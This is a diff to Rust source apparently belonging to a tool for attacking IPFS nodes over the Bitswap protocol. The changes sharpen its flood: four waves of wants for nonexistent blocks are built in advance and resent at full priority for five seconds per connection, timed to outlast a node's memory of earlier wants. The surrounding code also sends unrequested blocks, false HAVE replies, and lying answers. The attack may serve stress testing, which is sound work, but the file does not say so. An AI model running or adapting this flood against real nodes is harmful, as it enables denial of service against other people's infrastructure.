@@ -6,7 +6,7 @@ use std::collections::HashSet;
 use std::io;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::sync::{Arc, Mutex, PoisonError};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use libp2p::PeerId;
 use libp2p::futures::AsyncWriteExt as _;
@@ -17,7 +17,9 @@ use tokio::time::{sleep, timeout};
 
 use super::greed::{self, Taker};
 use super::shapes::{self, End, Speech};
-use super::words::{PRIORITY_MAX, binary, blocks, framed, haves, old_blocks, raw_cid, text, wanted, wants};
+use super::words::{
+    PRIORITY_MAX, RAW_PREFIX, binary, blocks, framed, haves, old_blocks, raw_cid, text, wanted, wants,
+};
 use super::{Hostile, STREAM_WAIT_MAX, Stream, hear_frame, send};
 use crate::inputs::noise;
 use crate::swarm::Peer;
@@ -29,10 +31,15 @@ const RAW: &str = "bafkrei";
 pub const BITSWAP: [&str; 4] =
     ["/ipfs/bitswap/1.2.0", "/ipfs/bitswap/1.1.0", "/ipfs/bitswap/1.0.0", "/ipfs/bitswap"];
 
-/// Wants of one message of the flood, and messages of one round of it: 100,000 wants as fast as they are taken.
+/// Wants of one message of the flood, and messages of one wave of it: 100,000 wants as fast as they are taken.
 pub const WANTS: usize = 1000;
 /// See [`WANTS`].
 pub const FLOOD_MESSAGES: usize = 100;
+/// Waves that are made before the flood begins, so that making them slows nothing. They come again and again: a node that
+/// remembers a thousand wants has forgotten them by then.
+const FLOOD_WAVES: usize = 4;
+/// How long waves follow each other on one connection.
+const FLOOD_TIME: Duration = Duration::from_secs(5);
 /// Streams that are held in the middle of a frame.
 pub const HELD_STREAMS: usize = 60;
 /// Blocks that nobody asked for: of one message, and messages of one stream.
@@ -47,7 +54,7 @@ const ROUND_TIME_MAX: Duration = Duration::from_secs(60);
 /// A part of the attack.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Part {
-    /// 100,000 wants of blocks that nobody has.
+    /// 100,000 wants of blocks that nobody has, and as many again for seconds.
     Flood,
     /// Blocks that nobody asked for, and HAVE of everything.
     Blocks,
@@ -108,12 +115,16 @@ pub struct Plan {
     connections: AtomicU64,
     turn: AtomicU64,
     rounds: [AtomicU64; Part::ALL.len()],
+    /// Messages of the flood, if it is a part.
+    flood: Vec<Vec<u8>>,
+    wants: AtomicU64,
+    begun: Instant,
 }
 
 impl Plan {
     /// A plan against a node. Nothing is done yet.
-    pub fn new(target: Target) -> Self {
-        Self {
+    pub fn new(target: Target, parts: &[Part]) -> Self {
+        let mut plan = Self {
             target,
             over: AtomicBool::new(false),
             seed: AtomicU64::new(1_000_000),
@@ -123,7 +134,29 @@ impl Plan {
             connections: AtomicU64::new(0),
             turn: AtomicU64::new(0),
             rounds: Default::default(),
+            flood: Vec::new(),
+            wants: AtomicU64::new(0),
+            begun: Instant::now(),
+        };
+        if parts.contains(&Part::Flood) {
+            plan.flood = (0..FLOOD_WAVES * FLOOD_MESSAGES).map(|_| plan.flood_message()).collect();
+            plan.begun = Instant::now();
         }
+        plan
+    }
+
+    /// Wants of blocks that nobody has, in one frame.
+    fn flood_message(&self) -> Vec<u8> {
+        let digests = self.noise(WANTS * 32);
+        let cids: Vec<Vec<u8>> =
+            digests.chunks(32).map(|digest| [&RAW_PREFIX[..], digest].concat()).collect();
+        framed(&wants(&cids, PRIORITY_MAX))
+    }
+
+    /// Wants of the flood that were taken, and how many in each second since it began.
+    pub fn flooded(&self) -> (u64, f64) {
+        let wants = self.wants.load(Ordering::Relaxed);
+        (wants, wants as f64 / self.begun.elapsed().as_secs_f64())
     }
 
     /// Wants of the node that came and were answered with lies.
@@ -190,7 +223,7 @@ impl Attack {
     pub fn begin(target: Target, parts: &[Part]) -> Self {
         let runtime =
             tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
-        let plan = Arc::new(Plan::new(target));
+        let plan = Arc::new(Plan::new(target, parts));
         let keys: Vec<Keypair> = (0..parts.len().min(5)).map(|_| Keypair::generate_ed25519()).collect();
         let playing = parts
             .iter()
@@ -302,17 +335,21 @@ async fn lie(plan: Arc<Plan>, peer: Arc<Hostile>, protocol: String, mut stream: 
     }
 }
 
-/// Sends a flood of wants; messages that were taken.
+/// Sends a flood of wants, in whole waves; messages that were taken.
 async fn flood(plan: &Plan, peer: &Hostile) -> Done {
     let Some(mut stream) = peer.open(BITSWAP[0]).await? else { return Ok(0) };
-    for sent in 0..FLOOD_MESSAGES {
-        let digests = plan.noise(WANTS * 32);
-        let cids: Vec<Vec<u8>> = digests.chunks(32).map(raw_cid).collect();
-        if plan.is_over() || !send(&mut stream, &framed(&wants(&cids, PRIORITY_MAX))).await {
-            return Ok(sent);
+    let (begun, mut sent) = (Instant::now(), 0);
+    for message in plan.flood.iter().cycle() {
+        if sent % FLOOD_MESSAGES == 0 && begun.elapsed() >= FLOOD_TIME {
+            break;
         }
+        if plan.is_over() || !send(&mut stream, message).await {
+            break;
+        }
+        plan.wants.fetch_add(WANTS as u64, Ordering::Relaxed);
+        sent += 1;
     }
-    Ok(FLOOD_MESSAGES)
+    Ok(sent)
 }
 
 /// Sends blocks that nobody asked for, in all versions; messages that were taken.
